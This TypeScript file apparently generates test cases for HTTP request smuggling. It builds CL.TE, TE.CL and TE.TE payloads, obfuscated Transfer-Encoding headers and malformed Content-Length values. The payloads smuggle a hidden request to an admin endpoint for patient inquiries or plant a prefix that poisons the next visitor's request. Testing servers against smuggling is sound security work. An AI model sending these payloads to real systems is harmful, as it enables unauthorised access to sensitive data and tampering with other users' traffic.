import { asChunk, chunkedHeader, lengthHeader, type WriteRequest } from './line.ts'

const transferEncodings = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer_Encoding: chunked',
  'Connection: transfer-encoding\r\nTransfer-Encoding: chunked',
]

/** Requests with another one, `hidden`, in their body, by the kind of doubt about where they end. */
export function smuggledRequests(request: WriteRequest): Record<string, string> {
  const hidden = request('GET /api/admin/patient-inquiries', [])
  const length = lengthHeader(hidden)
  // The beginning of a request. If the server took it for one, the next visitor's request would complete it.
  const poison = 'GET /api/health HTTP/1.1\r\nX-Ignore: '
  return {
    ...Object.fromEntries(
      ['GET', 'HEAD', 'DELETE', 'OPTIONS'].flatMap((method) => [
        [
          `chunked body on ${method}`,
          request(`${method} /api/jobs`, [chunkedHeader], asChunk(hidden)),
        ],
        [`counted body on ${method}`, request(`${method} /api/jobs`, [length], hidden)],
      ]),
    ),
    'CL.TE': request('POST /api/jobs', ['Content-Length: 6', chunkedHeader], `0\r\n\r\n${poison}`),
    'TE.CL': request('POST /api/jobs', [chunkedHeader, 'Content-Length: 4'], asChunk(hidden)),
    'two lengths': request('POST /api/jobs', ['Content-Length: 0', length], hidden),
    'a length with a sign': request('POST /api/jobs', ['Content-Length: +0'], hidden),
    'a length of two numbers': request('POST /api/jobs', ['Content-Length: 0, 5'], hidden),
    'a length that is folded': request('POST /api/jobs', ['Content-Length:\r\n 0'], hidden),
    ...Object.fromEntries(
      transferEncodings.flatMap((header) => [
        [`TE.TE ${header}`, request('POST /api/jobs', [header], asChunk(hidden))],
        [`TE.TE ${header} on GET`, request('GET /api/jobs', [header], asChunk(hidden))],
        [
          `TE.TE ${header} with a length`,
          request('POST /api/jobs', [header, 'Content-Length: 4'], asChunk(hidden)),
        ],
      ]),
    ),
    'a chunk longer than it says': request(
      'POST /api/jobs',
      [chunkedHeader],
      `1\r\nx${hidden}0\r\n\r\n`,
    ),
  }
}
